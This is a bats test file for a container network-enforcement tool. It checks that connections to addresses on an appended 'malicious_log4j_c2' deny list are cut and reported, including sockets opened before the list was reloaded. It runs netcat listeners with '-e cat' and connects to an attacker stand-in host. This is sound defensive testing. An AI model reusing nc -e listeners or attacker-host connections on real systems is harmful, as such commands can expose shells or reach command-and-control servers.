#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
#
# What no connect(2) of the container asks for: connections that are older than
# the list, and those a listed peer makes.

load ../e2e/story

setup_file() {
  story_open
  mkfifo -m 0666 "$ROOTFS/tmp/words"
  # Answers, and keeps its connections.
  spawn "$SCRATCH/peer.err" nsenter --net="$SCRATCH/netns/outside" -- \
    "$ROOTFS/bin/busybox" nc -ll -p 1390 -e cat
  listener_at outside 1390
  install -m 0755 "$TALKER" "$ROOTFS/bin/talker"
  in_netns outside ip route add local 203.0.113.128/25 dev lo
  in_netns outside ip -6 route add local 2001:db8:66:1::/64 dev lo
  in_netns inside ip -6 route add 2001:db8:66:1::/64 via "$ATTACKER6"
  export CAUGHT=$SCRATCH/caught
  spawn "$CAUGHT" nsenter --net="$SCRATCH/netns/outside" -- \
    python3 -u "$BATS_TEST_DIRNAME/catcher.py" 1391
  listener_at outside 1391
}
teardown_file() { story_close; }
setup() { attacker_forget_packets; }
teardown() { story_quiet; }

# A service whose list has, besides what the demo lists, ADDRESS...
service_listing() {
  cp "$SCRATCH/rules/log4j.rules.yaml" "$SCRATCH/rules/listing.rules.yaml"
  list "$@"
  RULES="[$SCRATCH/rules/listing.rules.yaml, $SCRATCH/rules/added.rules.yaml]" \
    service "$REFUSE_POLICY"
}

list() {
  local IFS=,
  printf '%s\n' '- list: malicious_log4j_c2' "  items: [$*]" \
    '  override: {items: append}' >"$SCRATCH/rules/added.rules.yaml"
}

arrived_at_attacker() { (($(attacker_packets) > 0)); }

@test "a connection that is older than the list is cut, and that is told" {
  service_listing 198.51.100.77
  contained_detached older sh -c "nc $ATTACKER4 1390 </tmp/words"
  exec 9>"$ROOTFS/tmp/words"
  echo before >&9
  wait_until 10 "words to arrive" arrived_at_attacker
  list 198.51.100.77 "$ATTACKER4"
  bailiff_api reload
  attacker_forget_packets
  echo after >&9
  event "$C2_RULE" '.bailiff.hook == "egress" and .bailiff.verdict == "denied"
    and .bailiff.container.id == "older"
    and .output_fields["proc.cmdline"] == null'
  (($(attacker_packets) == 0))
  # What is still to be sent would be when the container is gone.
  in_netns inside ss --kill dst "$ATTACKER4"
  exec 9>&-
}

# Kind of socket, what it connects to, what that is judged as. Each is in a
# container of its own: what is refused again and again is told once there.
sockets() {
  cat <<END
tcp 2001:db8:66:1::1 2001:db8:66:1::1
tcp ::ffff:203.0.113.201 203.0.113.201
udp 203.0.113.202 203.0.113.202
udp 2001:db8:66:1::2 2001:db8:66:1::2
udp ::ffff:203.0.113.203 203.0.113.203
mptcp 203.0.113.204 203.0.113.204
mptcp 2001:db8:66:1::3 2001:db8:66:1::3
END
}

# When it was told that the container was refused something, in whole seconds.
told_of() {
  service_events | jq --arg id "$1" 'select(.bailiff.container.id == $id
    and .bailiff.verdict == "denied") | .time[:19] + "Z" | fromdate'
}
told() { told_of "$1" | grep -q .; }

# What goes on being tried is told once in ten seconds, however often that is.
told_once() {
  told_of "$1" | jq -es '[.[1:], .[:-1]] | transpose |
    all(.[0] - .[1] >= 10)' >/dev/null
}

# say_to_all WORD: each socket has it to send.
say_to_all() {
  local fd
  for fd in "${words[@]}"; do echo "$1" >&"$fd"; done
}

@test "each kind of socket that is older than the list is cut, and told once" {
  local kind address judged id fd number=0
  local -a words=() listed=()
  service_listing 198.51.100.77
  while read -r kind address judged; do
    id=older-$((++number))
    mkfifo -m 0666 "$ROOTFS/tmp/$id"
    contained_detached "$id" sh -c "talker $kind $address 1391 </tmp/$id"
    exec {fd}>"$ROOTFS/tmp/$id"
    words+=("$fd")
    listed+=("\"$judged\"")
  done < <(sockets)
  say_to_all before
  while read -r kind address judged; do
    wait_until 20 "what $kind sends to $address" grep -qxF "$judged" "$CAUGHT"
  done < <(sockets)
  list 198.51.100.77 "${listed[@]}"
  bailiff_api reload
  : >"$CAUGHT"
  say_to_all after
  say_to_all again
  number=0
  while read -r kind address judged; do
    id=older-$((++number))
    wait_until 20 "an alert of $kind to $address" told "$id"
    [[ $kind != udp ]] || wait_until 20 "the errno" \
      grep -qxF EPERM "$SCRATCH/$id.out"
  done < <(sockets)
  # Behind all that was told of the others.
  run contained_connect later 203.0.113.202
  says "Operation not permitted"
  event "$C2_RULE" '.bailiff.container.id == "later"'
  number=0
  while read -r kind address judged; do
    told_once "older-$((++number))" || {
      told_of "older-$number"
      return 1
    }
  done < <(sockets)
  [[ ! -s $CAUGHT ]]
  for fd in "${words[@]}"; do exec {fd}>&-; done
}

@test "a listed peer that connects by itself is not answered" {
  service_listing "$ATTACKER4"
  contained_detached server nc -ll -p 8080 -e cat
  listener_at inside 8080
  run ! asked_by "$ATTACKER4" "$SERVER4" 8080
  event "$C2_RULE" '.bailiff.hook == "egress" and .bailiff.verdict == "denied"
    and .bailiff.container.id == "server"'
  (($(attacker_packets) == 0))
}

@test "another peer that connects is answered" {
  service_listing "$ATTACKER4"
  contained_detached server nc -ll -p 8080 -e cat
  listener_at inside 8080
  run asked_by "$HARMLESS4" "$SERVER4" 8080
  says hello
}
